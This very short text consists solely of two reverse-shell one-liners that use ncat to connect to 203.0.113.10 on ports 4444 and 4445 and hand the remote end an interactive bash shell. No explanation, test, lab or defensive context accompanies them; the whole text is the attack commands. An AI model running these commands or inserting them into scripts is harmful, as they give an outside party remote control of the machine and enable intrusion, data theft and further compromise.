ncat 203.0.113.10 4444 --sh-exec bash
ncat 203.0.113.10 4445 -e /bin/bash
